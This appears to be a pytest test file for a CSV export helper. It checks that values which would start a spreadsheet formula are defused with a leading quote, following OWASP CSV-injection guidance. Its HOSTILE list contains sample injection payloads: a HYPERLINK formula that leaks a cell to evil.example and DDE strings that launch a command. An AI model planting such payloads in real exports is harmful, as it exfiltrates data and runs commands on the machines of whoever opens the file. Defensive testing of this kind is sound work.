"""CSV exports are safe to open in a spreadsheet (OWASP CSV injection): one helper renders every export."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from dora_insights.dialects.csv_export import cell, document

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Lead time", "p95 = slow", "", "'quoted", " =not first", "3-2", "1e5"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(("value", "shown"), [(-3.5, "-3.5"), (-7, "-7"), (Decimal("-0.25"), "-0.25"), (0, "0")])
def test_numbers_stay_numbers_even_when_negative(value: Any, shown: str) -> None:
    assert cell(value) == shown


def test_text_that_looks_like_a_negative_number_is_still_text() -> None:
    assert cell("-3.5") == "'-3.5"


def test_null_bool_and_json_cells() -> None:
    assert cell(None) == ""
    assert cell(True) == "True"
    assert cell({"name": "=1+1"}) == '{"name":"=1+1"}'
    assert cell(["=1+1"]) == '["=1+1"]'


def test_a_document_round_trips_through_a_csv_reader_with_every_hostile_cell_defused() -> None:
    rows = [{"name": text, "last_value": -3.5, "note": 'a, "b"\nc'} for text in HOSTILE]
    rows.append({"=extra": "@x"})

    read = parsed(document(rows))

    assert len(read) == len(rows) + 1  # a carriage return inside a cell is quoted, never a row break
    assert read[0] == ["name", "last_value", "note", "'=extra"]
    assert [r[0] for r in read[1:-1]] == ["'" + t for t in HOSTILE]
    assert {r[1] for r in read[1:-1]} == {"-3.5"}
    assert read[1][2] == 'a, "b"\nc'
    assert read[-1] == ["", "", "", "'@x"]
    for row in read:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
